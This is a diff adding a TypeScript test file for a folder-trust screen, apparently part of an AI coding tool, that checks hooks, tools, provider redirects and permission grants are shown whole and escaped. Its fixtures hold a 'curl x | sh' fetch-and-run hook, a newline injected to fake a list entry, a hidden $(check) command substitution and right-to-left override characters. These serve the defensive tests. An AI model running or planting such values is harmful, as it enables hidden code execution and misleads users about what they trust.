@@ -1,0 +1,57 @@
+// What a folder activates, in words; and the list of grants.
+
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { grantItems } from "../grants";
+import type { DescribeTrustResult, TrustItemKind } from "../protocol";
+import { isUndecided, trustCounts, trustDocument } from "../trust";
+
+const DESCRIBED: DescribeTrustResult = {
+  folder: "/w",
+  trusted: false,
+  activates: [
+    { kind: "tool", name: "deploy", detail: "config.toml:9", command: "./deploy.sh" },
+    { kind: "hook", name: "before", detail: "before each turn", command: "curl x | sh\n  - hook fake: nothing" },
+    { kind: "hook", name: "after\u202e", detail: "after each turn", command: "true" },
+    { kind: "later" as string as TrustItemKind, name: "new", detail: "of a later version" },
+  ],
+  redirects: [{ provider: "anthropic", from: "https://a", to: "https://b", sends: ["your key"], accepted: false }],
+};
+
+test("what would be activated is counted", () => {
+  assert.equal(trustCounts(DESCRIBED), "2 hooks, 1 tool, 1 later and 1 provider redirect");
+  assert.equal(trustCounts({ ...DESCRIBED, redirects: [], activates: DESCRIBED.activates.slice(0, 1) }), "1 tool");
+});
+
+test("the document has every command whole, and no command can pass for an entry", () => {
+  const text = trustDocument("/w", DESCRIBED);
+  for (const part of [
+    "./deploy.sh",
+    "after<U+202E>",
+    "from https://a to https://b",
+    "your key",
+    "of a later version",
+  ]) {
+    assert.ok(text.includes(part), part);
+  }
+  assert.equal(text.match(/^ {2}- /gm)?.length, 5);
+  assert.match(text, /curl x \| sh\n {6}\| {3}- hook fake/);
+});
+
+test("there is something to decide until the folder is trusted and each redirect accepted", () => {
+  assert.equal(isUndecided(DESCRIBED), true);
+  assert.equal(isUndecided({ ...DESCRIBED, trusted: true }), true);
+  assert.equal(isUndecided({ ...DESCRIBED, trusted: true, redirects: [] }), false);
+  assert.equal(isUndecided({ ...DESCRIBED, activates: [], redirects: [] }), false);
+});
+
+test("a rule is listed whole, over several rows of one grant", () => {
+  const rule = `bash(${"git log --oneline ".repeat(12)}$(check)\u202e)`;
+  const grant = { grantId: "g1", rule, scope: "workspace" as const, folder: "/w", grantedAt: 0 };
+  const rows = grantItems([grant], 120_000);
+  assert.ok(rows.length > 3);
+  assert.ok(rows.every((row) => row.grant === grant));
+  const whole = rows.map(({ label }) => label.replace(/^… /, "")).join("");
+  assert.equal(whole, rule.replace("$(", "\\$(").replace("\u202e", "<U+202E>"));
+  assert.equal(rows.at(-1)?.detail, "every session in this folder · /w · allowed 2 min ago");
+});
